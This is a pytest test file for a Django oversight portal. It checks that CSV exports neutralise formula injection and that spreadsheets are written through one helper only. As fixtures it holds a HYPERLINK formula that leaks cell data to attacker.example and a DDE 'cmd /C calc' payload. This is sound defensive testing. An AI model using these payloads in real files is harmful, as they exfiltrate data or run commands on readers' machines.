"""Every CSV the portal writes neutralises formulas (OWASP CSV injection): text another organisation typed (a
justification, a case reference, a camera or person's name) reaches a DPO's spreadsheet as text, never as a formula
it would run. The JSON export keeps every value verbatim."""

import ast
import csv
import io
import json
from pathlib import Path

import pytest
from django.urls import reverse

from audit.access import AccessAction, AccessRecord, record_access
from common.spreadsheets import FORMULA_STARTS, csv_line_writer, safe_cell
from tests.factories import CameraFactory, MembershipFactory, OrganisationFactory

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the case file")'


def _body(response):
    return b"".join(response.streaming_content).decode()


@pytest.mark.django_db
def test_a_formula_typed_by_another_zone_s_operator_reaches_the_dpo_s_csv_as_text(person, signed_in):
    owner, consumer = OrganisationFactory(), OrganisationFactory()
    operator = MembershipFactory(organisation=consumer, role="operator")
    camera = CameraFactory(owner=owner, name="@SUM(1+1)*cmd|' /C calc'!A0")
    record_access(
        AccessRecord(
            action=AccessAction.DENIED, controller=owner, actor=operator.user, actor_organisation=consumer,
            cameras=[camera], purpose="criminal_investigation", justification=HYPERLINK, case_reference="+32 2 555",
            decision="deny", reason="no_convention",
        )
    )  # fmt: skip
    client = signed_in(person(owner, "dpo"))

    rows = list(csv.DictReader(io.StringIO(_body(client.get(reverse("oversight:export_csv"))))))
    denied = [row for row in rows if row["action"] == AccessAction.DENIED]
    assert len(denied) == 1
    assert denied[0]["justification"] == "'" + HYPERLINK
    assert denied[0]["case_reference"] == "'+32 2 555"
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(FORMULA_STARTS), (name, value)

    # The machine-readable export keeps the words as they were typed (and hashed).
    entries = json.loads(_body(client.get(reverse("oversight:export_json"))))
    assert [e["justification"] for e in entries if e["action"] == AccessAction.DENIED] == [HYPERLINK]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_cell_a_spreadsheet_would_run_gets_an_apostrophe(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    line = csv_line_writer().writerow(["plain", f"{start}cmd", 7])
    assert next(csv.reader([line])) == ["plain", f"'{start}cmd", "7"]


@pytest.mark.parametrize("value", ["PV 2026/77", "Gare du Midi – quai 3", "", "a=b", -12, 3.5, None])
def test_text_that_starts_no_formula_and_numbers_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_no_module_writes_a_spreadsheet_but_the_one_helper():
    """csv writers and spreadsheet workbooks are made in common/spreadsheets.py only."""
    makers = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook"), ("xlsxwriter", "Workbook")}
    found = []
    for app in ("zones", "cameras", "conventions", "media", "footage", "audit", "oversight", "demo", "common"):
        for path in (ROOT / app).rglob("*.py"):
            if path == ROOT / "common" / "spreadsheets.py" or "migrations" in path.parts:
                continue
            for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
                attribute = isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name)
                if attribute and (node.value.id, node.attr) in makers:
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
                imported = isinstance(node, ast.ImportFrom) and node.module in {"csv", "openpyxl", "xlsxwriter"}
                if imported and {alias.name for alias in node.names} & {"writer", "DictWriter", "Workbook"}:
                    found.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert found == [], f"write spreadsheets through common.spreadsheets: {found}"
